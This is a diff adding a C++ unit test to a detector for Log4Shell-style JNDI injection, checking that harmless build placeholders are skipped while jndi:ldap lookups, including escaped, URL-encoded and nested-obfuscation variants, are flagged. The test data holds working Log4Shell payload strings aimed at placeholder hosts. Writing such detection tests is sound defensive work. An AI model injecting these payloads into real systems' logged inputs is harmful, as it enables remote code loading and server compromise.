@@ -119,6 +119,29 @@ TEST(DetectionTest, VeryLongLinesAreExaminedInWindows) {
   for (const Detection& d : found) EXPECT_NE(d.verdict, Verdict::kDosOnly) << d.raw.substr(0, 80);
 }
 
+TEST(DetectionTest, PlainPlaceholderLinesAreSkippedOnlyWhenInert) {
+  auto scan = [](const std::string& block, const LookupEnvironment& env = {}) {
+    std::vector<Detection> found;
+    ScanBlock(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); }, env);
+    return found;
+  };
+  EXPECT_TRUE(scan("build ${BUILD_NUMBER} of ${JOB_NAME} ${project.version} $${x} ${a-b_c.d}\n").empty());
+  // A plain placeholder beside a lookup, an escape or an encoding: evaluated.
+  std::vector<std::string> attacks = {
+      "${BUILD} ${jndi:ldap://a.example/x}\n",
+      "${BUILD} $${jndi:ldap://b.example/x} ${nope}\n",  // the %m rescan
+      "${BUILD} %24%7Bjndi:ldap://c.example/x%7D\n",
+      "${BUILD} ${${lower:j}ndi:ldap://d.example/x}\n",
+  };
+  for (const std::string& line : attacks) EXPECT_EQ(scan(line).size(), 1u) << line;
+  // A property whose value holds a lookup makes plain placeholders live.
+  LookupEnvironment env;
+  env.properties["evil"] = "${jndi:ldap://e.example/x}";
+  std::vector<Detection> found = scan("user ${evil}\n", env);
+  ASSERT_EQ(found.size(), 1u);
+  EXPECT_EQ(found[0].jndi[0].host, "e.example");
+}
+
 // Acceptance: every real header payload in Corelight's Zeek notice.log
 // (11-13 December 2021) is found with the callback host Zeek extracted.
 TEST(DetectionTest, CorelightNoticeLog) {
